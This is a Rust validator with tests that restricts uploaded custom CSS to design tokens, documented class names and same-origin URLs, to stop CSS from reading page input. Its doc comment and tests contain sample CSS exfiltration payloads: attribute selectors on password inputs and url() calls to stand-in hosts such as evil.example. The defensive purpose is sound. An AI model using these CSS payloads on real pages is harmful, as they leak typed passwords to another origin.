//! The rules a company's custom CSS must follow (issue: "Custom CSS is limited to the design
//! tokens and a documented set of class names"), checked with `cssparser`'s tokenizer.
//!
//! Custom CSS is served from this origin as a stylesheet, so the Content-Security-Policy stays
//! as it is; what it must not do is read the page. CSS reads a page through attribute selectors
//! (`input[value^="a"] { background: url(//evil/a) }` leaks a password one letter at a time)
//! and sends what it read with `url()` to another origin. So:
//!
//! - selectors are made only of the documented class names ([`CLASSES`]), `:root`, the
//!   pseudo-classes and pseudo-elements in [`PSEUDO`], and combinators — no attribute selector,
//!   no element name, no id, no `*`;
//! - a custom property (`--name`) must be a design token of `style/tokens.css`;
//! - `url()` may name only a path on this origin (`/…`); `@import`, `@font-face` and every other
//!   at-rule but `@media` are refused, and so are `attr()`, `image-set()` and `expression()`.
//!
//! A refusal names the rule broken ([`CssRule`]), what broke it and its line: the API answers
//! it as a sentence and as a detail the portal words in its reader's language.

use cssparser::{Delimiter, Parser, ToCss, Token};
use sspr_api::branding::CssRule;
use sspr_api::{ErrorDetail, WireName};

/// The largest custom CSS accepted, in bytes (Entra's limit too).
pub const MAX_BYTES: usize = 25 * 1024;

/// The class names custom CSS may style (listed in `style/README.md`).
pub const CLASSES: &[&str] = &[
    "actions",
    "alert",
    "badge",
    "brand",
    "brand__logo",
    "brand__name",
    "branding-background",
    "branding-legal",
    "branding-text",
    "button",
    "button--link",
    "button--primary",
    "button--quiet",
    "button--secondary",
    "card",
    "field",
    "field__hint",
    "field__input",
    "field__label",
    "links",
    "notice",
    "site-footer",
    "site-header",
    "site-main",
    "spinner",
];

/// Pseudo-classes and pseudo-elements allowed in selectors.
pub const PSEUDO: &[&str] = &[
    "root",
    "hover",
    "focus",
    "focus-visible",
    "focus-within",
    "active",
    "disabled",
    "first-child",
    "last-child",
    "before",
    "after",
    "placeholder",
];

/// Functions that may not appear in a value.
const REFUSED_FUNCTIONS: &[&str] = &[
    "attr",
    "image-set",
    "-webkit-image-set",
    "expression",
    "src",
    "element",
];

/// The design tokens of `style/tokens.css`: the custom properties custom CSS may set.
pub fn tokens() -> Vec<&'static str> {
    include_str!("../../../style/tokens.css")
        .lines()
        .filter_map(|line| line.trim().strip_prefix("--"))
        .filter_map(|rest| rest.split(':').next())
        .collect()
}

/// Why a sheet was refused: the first rule it breaks, its line (0 for the sheet as a whole) and
/// what broke it, as written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub rule: CssRule,
    pub line: u32,
    pub target: String,
}

impl Refusal {
    fn whole(rule: CssRule, target: String) -> Self {
        Refusal {
            rule,
            line: 0,
            target,
        }
    }

    /// The refusal as a sentence for people, naming the line.
    pub fn sentence(&self) -> String {
        let target = &self.target;
        let what = match self.rule {
            CssRule::NotUtf8 => "Custom CSS must be UTF-8 text.".to_owned(),
            CssRule::TooLarge => format!("Custom CSS may be at most {target} KB."),
            CssRule::AtRule => format!(
                "{target} is not allowed in custom CSS (only @media is): it could load files \
                 from elsewhere or change the page beyond its design tokens."
            ),
            CssRule::MediaWithoutBlock => "An @media rule has no { … } block.".to_owned(),
            CssRule::MediaFunction => "An @media condition may not call functions.".to_owned(),
            CssRule::AttributeSelector => "Attribute selectors ([…]) are not allowed: they can \
                                           read what is typed into inputs. Use the documented \
                                           class names."
                .to_owned(),
            CssRule::UnknownClass => format!(
                "{target} is not one of the documented class names (see the designer section \
                 of the README)."
            ),
            CssRule::Pseudo => format!("{target} is not allowed in a selector."),
            CssRule::ElementSelector => format!(
                "Element selectors such as {target} are not allowed: use the documented class \
                 names."
            ),
            CssRule::IdSelector => {
                "Id selectors (#…) are not allowed: use the documented class names.".to_owned()
            }
            CssRule::SelectorToken => format!("{target} cannot be part of a selector here."),
            CssRule::RuleWithoutBlock => "A rule has no { … } block.".to_owned(),
            CssRule::DeclarationExpected => {
                "Expected a declaration such as `color: var(--color-text);`.".to_owned()
            }
            CssRule::UnknownToken => {
                format!("{target} is not a design token (see style/README.md for the list).")
            }
            CssRule::Property => format!("The property {target} is not allowed."),
            CssRule::Function => format!("{target}() is not allowed in custom CSS."),
            CssRule::NestedRule => "Nested rules are not allowed inside a declaration.".to_owned(),
            CssRule::Unclosed => "A url() or a string is not closed.".to_owned(),
            CssRule::ForeignUrl => format!(
                "url({target}) is not allowed: custom CSS may only use files on this site, by a \
                 path starting with / (upload images as the background or logos)."
            ),
        };
        match self.line {
            0 => what,
            line => format!("Line {line}: {what}"),
        }
    }

    /// The refusal as the API's error detail.
    pub fn detail(&self) -> ErrorDetail {
        ErrorDetail {
            code: self.rule.as_str().to_owned(),
            message: self.sentence(),
            target: self.target.clone(),
            line: (self.line > 0).then_some(self.line),
        }
    }
}

/// Checks an uploaded sheet: UTF-8 text, then [`check`].
pub fn check_bytes(bytes: &[u8]) -> Result<(), Refusal> {
    let css =
        std::str::from_utf8(bytes).map_err(|_| Refusal::whole(CssRule::NotUtf8, String::new()))?;
    check(css)
}

/// Checks `css`; the error is the first rule broken.
pub fn check(css: &str) -> Result<(), Refusal> {
    if css.len() > MAX_BYTES {
        return Err(Refusal::whole(
            CssRule::TooLarge,
            (MAX_BYTES / 1024).to_string(),
        ));
    }
    let mut parser = Parser::new(css);
    let mut checker = Checker {
        tokens: tokens(),
        problem: None,
    };
    checker.rules(&mut parser);
    match checker.problem {
        Some(problem) => Err(problem),
        None => Ok(()),
    }
}

struct Checker {
    tokens: Vec<&'static str>,
    problem: Option<Refusal>,
}

impl Checker {
    fn refuse(&mut self, parser: &Parser<'_>, rule: CssRule, target: impl Into<String>) {
        if self.problem.is_none() {
            self.problem = Some(Refusal {
                rule,
                line: parser.current_source_location().line + 1,
                target: target.into(),
            });
        }
    }

    /// A list of rules (the sheet, or an `@media` block).
    fn rules(&mut self, parser: &mut Parser<'_>) {
        while self.problem.is_none() {
            let token = match parser.next() {
                Ok(token) => token.clone(),
                Err(_) => return,
            };
            match token {
                Token::AtKeyword(name) if name.eq_ignore_ascii_case("media") => {
                    self.media(parser);
                }
                Token::AtKeyword(name) => self.refuse(parser, CssRule::AtRule, format!("@{name}")),
                first => self.rule(parser, first),
            }
        }
    }

    /// `@media …{ rules }`: a prelude of plain words and parentheses, then rules.
    fn media(&mut self, parser: &mut Parser<'_>) {
        loop {
            let token = match parser.next() {
                Ok(token) => token.clone(),
                Err(_) => return self.refuse(parser, CssRule::MediaWithoutBlock, ""),
            };
            match token {
                Token::CurlyBracketBlock => {
                    let _ = parser.parse_nested_block(|inner| {
                        self.rules(inner);
                        Ok::<(), cssparser::ParseError<()>>(())
                    });
                    return;
                }
                Token::Function(_) | Token::UnquotedUrl(_) | Token::BadUrl(_) => {
                    return self.refuse(parser, CssRule::MediaFunction, "");
                }
                _ => {}
            }
        }
    }

    /// A style rule whose selector starts with `first`.
    fn rule(&mut self, parser: &mut Parser<'_>, first: Token<'_>) {
        let mut token = first;
        let mut after_colon = 0;
        let mut after_dot = false;
        loop {
            match &token {
                Token::CurlyBracketBlock => break,
                Token::SquareBracketBlock => {
                    return self.refuse(parser, CssRule::AttributeSelector, "");
                }
                Token::Delim('.') => after_dot = true,
                Token::Ident(name) if after_dot => {
                    if !CLASSES.contains(&name.as_ref()) {
                        return self.refuse(parser, CssRule::UnknownClass, format!(".{name}"));
                    }
                    after_dot = false;
                }
                Token::Colon => after_colon += 1,
                Token::Ident(name) | Token::Function(name) if after_colon > 0 => {
                    if !PSEUDO.contains(&name.to_ascii_lowercase().as_str()) {
                        let colons = ":".repeat(after_colon);
                        return self.refuse(parser, CssRule::Pseudo, format!("{colons}{name}"));
                    }
                    after_colon = 0;
                }
                Token::Ident(name) => {
                    return self.refuse(parser, CssRule::ElementSelector, name.to_string());
                }
                Token::IDHash(_) | Token::Hash(_) => {
                    return self.refuse(parser, CssRule::IdSelector, "");
                }
                Token::Delim('>' | '+' | '~') | Token::Comma | Token::WhiteSpace(_) => {}
                other => {
                    return self.refuse(parser, CssRule::SelectorToken, other.to_css_string());
                }
            }
            token = match parser.next_including_whitespace() {
                Ok(token) => token.clone(),
                Err(_) => return self.refuse(parser, CssRule::RuleWithoutBlock, ""),
            };
        }
        let _ = parser.parse_nested_block(|inner| {
            self.declarations(inner);
            Ok::<(), cssparser::ParseError<()>>(())
        });
    }

    /// `name: value; …` inside a style rule.
    fn declarations(&mut self, parser: &mut Parser<'_>) {
        while self.problem.is_none() && !parser.is_exhausted() {
            let result = parser.parse_until_after(Delimiter::Semicolon, |inner| {
                let name = inner.expect_ident()?.to_string();
                inner.expect_colon()?;
                self.declaration(inner, &name);
                Ok::<(), cssparser::ParseError<()>>(())
            });
            if result.is_err() {
                self.refuse(parser, CssRule::DeclarationExpected, "");
            }
        }
    }

    fn declaration(&mut self, parser: &mut Parser<'_>, name: &str) {
        if let Some(token) = name.strip_prefix("--") {
            if !self.tokens.contains(&token) {
                return self.refuse(parser, CssRule::UnknownToken, name);
            }
        }
        let lower = name.to_ascii_lowercase();
        if lower == "behavior" || lower.ends_with("-binding") {
            return self.refuse(parser, CssRule::Property, name);
        }
        self.value(parser);
    }

    /// A value, with every nested function and block.
    fn value(&mut self, parser: &mut Parser<'_>) {
        while self.problem.is_none() {
            let token = match parser.next() {
                Ok(token) => token.clone(),
                Err(_) => return,
            };
            match token {
                Token::UnquotedUrl(url) => self.url(parser, &url),
                Token::Function(name) if name.eq_ignore_ascii_case("url") => {
                    let url = parser
                        .parse_nested_block(|inner| {
                            Ok::<_, cssparser::ParseError<()>>(inner.expect_string()?.to_string())
                        })
                        .unwrap_or_default();
                    self.url(parser, &url);
                }
                Token::Function(name)
                    if REFUSED_FUNCTIONS.contains(&name.to_ascii_lowercase().as_str()) =>
                {
                    self.refuse(parser, CssRule::Function, name.to_string());
                }
                Token::Function(_) | Token::ParenthesisBlock | Token::SquareBracketBlock => {
                    let _ = parser.parse_nested_block(|inner| {
                        self.value(inner);
                        Ok::<(), cssparser::ParseError<()>>(())
                    });
                }
                Token::CurlyBracketBlock => {
                    self.refuse(parser, CssRule::NestedRule, "");
                }
                Token::BadUrl(_) | Token::BadString(_) => {
                    self.refuse(parser, CssRule::Unclosed, "");
                }
                _ => {}
            }
        }
    }

    /// `url(…)` may name only a path on this origin.
    fn url(&mut self, parser: &Parser<'_>, url: &str) {
        let same_origin = url.starts_with('/') && !url.starts_with("//") && !url.contains('\\');
        if !same_origin {
            self.refuse(parser, CssRule::ForeignUrl, url);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tokens_and_documented_classes_are_accepted() {
        let css = ":root { --color-primary: #6b2c91; --radius-md: 2px; }\n\
                   .card, .button--primary:hover { border-radius: var(--radius-md); }\n\
                   @media (prefers-color-scheme: dark) { :root { --color-bg: #111; } }\n\
                   .branding-background { background: url(/api/branding/assets/ab.png) center / cover; }\n\
                   .field__input::placeholder { color: rgb(0 0 0 / 0.5) }";
        assert_eq!(check(css), Ok(()));
        assert!(tokens().contains(&"color-primary"));
        assert!(tokens().contains(&"content-width"));
    }

    #[test]
    fn attribute_selectors_on_inputs_are_refused_with_a_clear_message() {
        let css = ".card {}\n.field__input[value^=\"a\"] { background: red; }";
        let refusal = check(css).expect_err("refused");
        let error = refusal.sentence();
        assert!(error.starts_with("Line 2: Attribute selectors"), "{error}");
        let detail = refusal.detail();
        assert_eq!(
            (detail.code.as_str(), detail.line, detail.message),
            ("attribute_selector", Some(2), error)
        );
        assert!(check("input[type=password] { color: red }").is_err());
    }

    #[test]
    fn urls_to_other_origins_are_refused() {
        for css in [
            ".card { background: url(https://evil.example/a.png) }",
            ".card { background: url(\"//evil.example/a.png\") }",
            ".card { background-image: url('http://evil.example/x') }",
            ".card { background: url(data:image/png;base64,AAAA) }",
        ] {
            let refusal = check(css).expect_err(css);
            assert_eq!(refusal.rule, CssRule::ForeignUrl);
            let error = refusal.sentence();
            assert!(
                error.contains("is not allowed: custom CSS may only use files on this site"),
                "{error}"
            );
        }
    }

    #[test]
    fn at_rules_unknown_names_and_risky_functions_are_refused() {
        for (css, says) in [
            ("@import url(/x.css);", "@import is not allowed"),
            (
                "@font-face { src: url(/f.woff) }",
                "@font-face is not allowed",
            ),
            (
                ".mine { color: red }",
                ".mine is not one of the documented class names",
            ),
            ("body { color: red }", "Element selectors such as body"),
            ("#id { color: red }", "Id selectors"),
            (
                ":root { --not-a-token: 1px }",
                "--not-a-token is not a design token",
            ),
            (
                ".card::after { content: attr(data-x) }",
                "attr() is not allowed",
            ),
            (".card:has(.field) { color: red }", ":has is not allowed"),
            (".card { color: red", ""),
        ] {
            match check(css).map_err(|refusal| refusal.sentence()) {
                Err(error) => assert!(error.contains(says), "{css}: {error}"),
                Ok(()) => assert!(says.is_empty(), "{css} was accepted"),
            }
        }
    }

    #[test]
    fn large_sheets_are_refused() {
        let css = ":root { --color-bg: #ffffff; }\n".repeat(1000);
        let refusal = check(&css).expect_err("too big");
        assert_eq!((refusal.rule, refusal.line), (CssRule::TooLarge, 0));
        assert_eq!(refusal.sentence(), "Custom CSS may be at most 25 KB.");
        assert_eq!(refusal.detail().line, None);
    }

    #[test]
    fn the_detail_names_the_rule_what_broke_it_and_its_line() {
        for (css, rule, target, line) in [
            (
                "\n\n.mine { color: red }",
                CssRule::UnknownClass,
                ".mine",
                3,
            ),
            ("@import url(/x.css);", CssRule::AtRule, "@import", 1),
            (".card:has(.field) {}", CssRule::Pseudo, ":has", 1),
            (".card::selection {}", CssRule::Pseudo, "::selection", 1),
            (".card > * {}", CssRule::SelectorToken, "*", 1),
            (
                ":root {\n --nope: 1px }",
                CssRule::UnknownToken,
                "--nope",
                2,
            ),
            (
                ".card { -moz-binding: none }",
                CssRule::Property,
                "-moz-binding",
                1,
            ),
            (".card { content: attr(x) }", CssRule::Function, "attr", 1),
            (
                ".card { background: url(//evil.example/a) }",
                CssRule::ForeignUrl,
                "//evil.example/a",
                1,
            ),
        ] {
            let detail = check(css).expect_err(css).detail();
            assert_eq!(
                (detail.code.as_str(), detail.target.as_str(), detail.line),
                (rule.as_str(), target, Some(line)),
                "{css}"
            );
        }
        let not_text = check_bytes(&[0xff, 0xfe]).expect_err("not UTF-8");
        assert_eq!(not_text.sentence(), "Custom CSS must be UTF-8 text.");
    }
}
